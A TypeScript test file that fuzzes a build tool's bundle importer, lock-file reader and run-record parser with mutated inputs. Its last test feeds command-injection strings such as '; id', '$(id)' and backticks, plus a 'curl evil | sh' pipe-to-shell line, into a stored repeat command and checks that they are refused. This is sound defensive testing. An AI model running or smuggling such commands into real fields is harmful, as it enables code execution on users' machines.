import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sha256 } from '../../../orchestrator/ground/digest.ts';
import { commandText } from '../../../orchestrator/ground/printed-command.ts';
import { readRuns } from '../../../orchestrator/keep/kept-runs.ts';
import { readLock } from '../../../orchestrator/publish/read-lock.ts';
import type { NodeRecord } from '../../../orchestrator/store/record.ts';
import { parseRecord } from '../../../orchestrator/store/records.ts';
import { importBundle } from '../../../orchestrator/transfer/import-bundle.ts';
import { mutated } from '../../rig/mutate.ts';
import { mutatedJson } from '../../rig/mutate-json.ts';
import { Rig } from '../../rig/rig.ts';
import { sample } from '../../rig/sample.ts';
import { changeRecord, type RawMember, readTar, reseal, writeTar } from './tar-file.ts';

const MUTATIONS = Array.from({ length: 10_000 }, (_, number) => number);
const drawn = (parts = 50): number[] => sample(MUTATIONS, () => [], parts);

/** Files of strangers with faults: each is read for what it is, or refused as a Problem. */
describe('a file of another store with faults', function () {
  this.timeout(600_000);
  let dir: string;
  let members: RawMember[];
  let lock: unknown;
  let run: Record<string, unknown>;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'strata-faults-'));
    const rig = await Rig.text();
    try {
      assert.equal((await rig.json('run')).code, 0);
      assert.equal((await rig.run('export', 'join', join(dir, 'join.tar'))).code, 0);
      lock = JSON.parse(readFileSync(rig.path('artifacts/latest/text/lock.json'), 'utf8'));
      const [id] = readdirSync(rig.path('artifacts/runs'));
      run = JSON.parse(readFileSync(rig.path('artifacts/runs', id!, 'run.json'), 'utf8'));
    } finally {
      await rig.remove();
    }
    members = readTar(join(dir, 'join.tar'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const isProblem = (error: unknown, code: RegExp, number: number): void => {
    const { name, code: found, stack } = error as Error & { code: string };
    assert.ok(name === 'Problem' && code.test(found), `mutation ${number}: ${stack}`);
  };

  it('is a whole export with its seal, or is refused', async () => {
    const path = join(dir, 'faulty.tar');
    const bytes = readFileSync(join(dir, 'join.tar'));
    const { seal } = await importBundle(undefined, join(dir, 'join.tar'), { checkOnly: true });
    for (const number of drawn()) {
      writeFileSync(path, mutated(bytes, number));
      await importBundle(undefined, path, { checkOnly: true }).then(
        (read) => assert.equal(read.seal, seal, `mutation ${number}`),
        (error) => isProblem(error, /^bad-export$/, number),
      );
    }
  });

  it('is refused as an export where a record or the manifest in it is odd and all sums fit', async () => {
    const path = join(dir, 'odd.tar');
    const records = members.filter(({ name }) => name.startsWith('records/'));
    for (const number of drawn(100)) {
      const one = records[number % records.length]!;
      const change = (record: any): void => {
        const odd = mutatedJson(record, number) as object;
        for (const member of Object.keys(record)) delete record[member];
        Object.assign(record, odd);
      };
      const made = members.map((member) =>
        member === one ? { ...one, bytes: changeRecord(one.bytes, change) } : member,
      );
      const sealed =
        number % 3 === 0
          ? reseal(members, (manifest) => Object.assign(manifest, mutatedJson(manifest, number)))
          : reseal(made);
      writeTar(path, sealed);
      await importBundle(undefined, path, { checkOnly: true }).catch((error) =>
        isProblem(error, /^(bad|old)-export$/, number),
      );
    }
  });

  it('is a record whose members have their types, or the words of what is wrong', () => {
    const text = members.find(({ name }) => name.startsWith('records/'))!.bytes.toString();
    const record = JSON.parse(text).record as NodeRecord;
    for (const number of drawn()) {
      const body = JSON.stringify(mutatedJson(record, number));
      const found = parseRecord(`{"checksum":"${sha256(body)}","record":${body}}\n`, record.key);
      if (typeof found === 'object')
        assert.equal(typeof `${found.node}${new Date(found.finishedAt).toISOString()}`, 'string');
      assert.equal(typeof parseRecord(mutated(Buffer.from(text), number).toString(), record.key) !== 'undefined', true);
    }
  });

  it('is a lock that agrees with itself, or is refused', () => {
    const path = join(dir, 'lock.json');
    let refused = 0;
    for (const number of drawn()) {
      const odd =
        number % 2 === 0
          ? JSON.stringify(mutatedJson(lock, number))
          : mutated(Buffer.from(JSON.stringify(lock)), number);
      writeFileSync(path, odd);
      try {
        readLock(path);
      } catch (error) {
        isProblem(error, /^(bad-lock|other-lock-format)$/, number);
        refused++;
      }
    }
    assert.ok(refused > 50, `${refused} were refused`);
  });

  it('is the record of a run, or is left out', () => {
    const folder = join(dir, 'runs', run.run as string);
    mkdirSync(folder, { recursive: true });
    for (const number of drawn()) {
      writeFileSync(join(folder, 'run.json'), JSON.stringify(mutatedJson(run, number)));
      for (const { nodes, set, owner, startedAt } of readRuns(dir, true)) {
        for (const { outputs } of Object.values(nodes)) Object.values(outputs).map((digest) => digest.slice(7));
        assert.equal(typeof `${set.map((one) => one.trim())}${owner.pid}${startedAt.slice(1)}`, 'string');
      }
    }
  });

  it('has as the command that repeats a run only one of this program', () => {
    const folder = join(dir, 'runs', run.run as string);
    mkdirSync(folder, { recursive: true });
    const read = (changes: object) => {
      writeFileSync(join(folder, 'run.json'), JSON.stringify({ ...run, ...changes }));
      return readRuns(dir, true).length;
    };
    const words = ["it's here/lock.json", '--set', 'a=[1,"x y"]', 'line\nend', "tab\t'", '-x', ''];
    assert.equal(read({ again: commandText('reproduce', ...words) }), 1);
    const start = commandText('reproduce');
    for (const tail of ['; id', ' a;id', ' $(id)', ' "$(id)"', ' `id`', ' a && b', ' > x', "'", " 'a'$(id)'b'", '\nid'])
      assert.equal(read({ again: start + tail }), 0, tail);
    for (const again of ['curl evil | sh', commandText('gc'), '']) assert.equal(read({ again }), 0, again);
    assert.equal(read({ experiment: '--store=/elsewhere' }), 0);
  });
});
